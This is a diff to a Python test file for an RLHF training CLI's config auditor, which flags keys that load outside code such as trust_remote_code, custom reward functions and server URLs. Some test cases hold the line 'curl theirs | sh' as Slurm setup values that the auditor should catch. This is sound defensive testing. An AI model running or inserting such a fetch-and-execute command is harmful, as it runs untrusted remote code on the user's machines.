@@ -118,26 +118,18 @@ def classes_of(key: str) -> list[str]:
 
 
 def test_every_key_is_classified_once() -> None:
-    """The author of a new key adds it to one of the tables."""
-    wrong = {key: classes for key in sorted(keys()) if len(classes := classes_of(key)) != 1}
-    assert len(keys()) > 150
+    """The author of a new key adds it to one of the tables. A row for a renamed key would hide a later key of it."""
+    found = keys()
+    assert len(found) > 150
     assert not any(map(classes_of, ("track.new", "new", "trainer.args.new", "launch.new", "rewards.*.new")))
+    wrong = {key: classes for key in sorted(found) if len(classes := classes_of(key)) != 1}
     assert not wrong, f"put each into ASKED of config/imported_code.py, or into HARMLESS here: {wrong}"
-
-
-def test_the_tables_name_keys_that_exist() -> None:
-    """A row for a renamed key would hide a later key of that name."""
-    known = {key for leaf in keys() for parts in [leaf.split(".")] for key in map(".".join, _starts(parts))}
-    sections = {"launch.slurm", "launch.vllm"}
-    numbers = {"trainer.args.vllm_server_port", "trainer.args.model_init_kwargs"}
-    named = {
-        key for key in (*HARMLESS, *ASKED, *BY_VALUE) if not key.startswith(("stop.", "expect.", "rewards.*.gate"))
+    known = {
+        ".".join(parts[:depth]) for parts in (key.split(".") for key in found) for depth in range(1, len(parts) + 1)
     }
-    assert named - known - sections - numbers == set()
-
-
-def _starts(parts: list[str]) -> list[list[str]]:
-    return [parts[:depth] for depth in range(1, len(parts) + 1)]
+    known |= {"launch.slurm", "launch.vllm", "trainer.args.vllm_server_port", "trainer.args.model_init_kwargs"}
+    of_any_name = ("stop.", "expect.", "rewards.*.gate")
+    assert {key for key in (*HARMLESS, *ASKED, *BY_VALUE) if not key.startswith(of_any_name)} - known == set()
 
 
 RUNS = "rlhf_cli.rewards.code:code_passes_tests"
@@ -174,7 +166,6 @@ SERVER = "rlhf_cli.rewards.server:RewardServer"
         {"trainer": {"args": {"log_completions_hub_repo": "theirs/rows"}}},
         {"trainer": {"args": {"vllm_server_base_url": "http://theirs"}}},
         {"trainer": {"args": {"model_init_kwargs": {"attn_implementation": "theirs/kernel"}}}},
-        {"model": {"trust_remote_code": True}},
         {"model": {"trust_remote_code": "yes"}},
         {"launch": {"slurm": {"setup": ["curl theirs | sh"]}}},
         {"launch": {"slurm": {"extra": {"wrap": "curl theirs | sh"}}}},
@@ -194,6 +185,11 @@ SERVER = "rlhf_cli.rewards.server:RewardServer"
 )
 def test_keys_that_are_listed(config: JsonTree) -> None:
     assert asked_of(config)
+
+
+def test_a_model_with_code_of_its_own_is_named() -> None:
+    model: JsonTree = {"path": "org/model", "trust_remote_code": True}
+    assert asked_of({"model": model}) == ["model.path: org/model", "model.trust_remote_code: true"]
 
 
 @pytest.mark.parametrize(
@@ -228,30 +224,27 @@ def test_an_experiment_with_built_in_rewards_asks_for_nothing(name: str) -> None
     assert asked_of(tree) == []
 
 
-def test_a_model_with_code_of_its_own_is_named() -> None:
-    model: JsonTree = {"path": "org/model", "trust_remote_code": True}
-    assert asked_of({"model": model}) == ["model.path: org/model", "model.trust_remote_code: true"]
-
-
 def test_the_files_of_every_function_that_a_key_names_are_noted(place: Path) -> None:
     """The walk finds each `fn`, `aggregate` and `class`; their files are hashed, and a change is refused on resume."""
     named = {key for key in keys() if key.rpartition(".")[2] in ("fn", "class", "aggregate")}
     of_rollouts = {"tools.*.fn", "environment.class", "environment.*.class", "rollout.fn"}
     assert named == {"rewards.*.fn", "advantages.fn", "aggregate", "trainer.class"} | of_rollouts
-    words = ["rewards.correct.fn=./a.py:f", "advantages.fn=./b.py:f", "aggregate=./c.py:f", "trainer.class=./d.py:f"]
-    for name in "abcdefg":
-        (place / f"{name}.py").write_text(
-            "def f(totals): ...\nclass f: ...\n" if name == "d" else "def f(totals): ...\n"
-        )
-    experiment = prepare(["+exp=quickstart", "~rewards.correct.args", *words]).experiment
-    assert sorted(file.name for file in imported_code(experiment).values()) == ["a.py", "b.py", "c.py", "d.py"]
+    for name in "abcefg":
+        (place / f"{name}.py").write_text("def f(totals): ...\n")
+    (place / "d.py").write_text("class f: ...\n")
+    of_learning = [
+        "rewards.correct.fn=./a.py:f",
+        "advantages.fn=./b.py:f",
+        "aggregate=./c.py:f",
+        "trainer.class=./d.py:f",
+    ]
     for words, files in (
-        (["tools.x.fn=./e.py:f", "environment.class=./f.py:f"], ["e.py", "f.py"]),
-        (["environment.one.class=./e.py:f", "environment.two.class=./f.py:f"], ["e.py", "f.py"]),
-        (["rollout.fn=./g.py:f"], ["g.py"]),
+        (["~rewards.correct.args", *of_learning], "abcd"),
+        (["tools.x.fn=./e.py:f", "environment.class=./f.py:f"], "ef"),
+        (["environment.one.class=./e.py:f", "environment.two.class=./f.py:f"], "ef"),
+        (["rollout.fn=./g.py:f"], "g"),
     ):
         experiment = prepare(["+exp=quickstart", *words]).experiment
-        assert sorted(file.name for file in imported_code(experiment).values()) == files
-        assert {line.partition(":")[0] for line in asked_of(experiment.model_dump(mode="json"))} >= {
-            word.partition("=")[0] for word in words
-        }
+        assert sorted(file.name for file in imported_code(experiment).values()) == [f"{name}.py" for name in files]
+        asked = {line.partition(":")[0] for line in asked_of(experiment.model_dump(mode="json"))}
+        assert asked >= {word.partition("=")[0] for word in words if "=" in word}
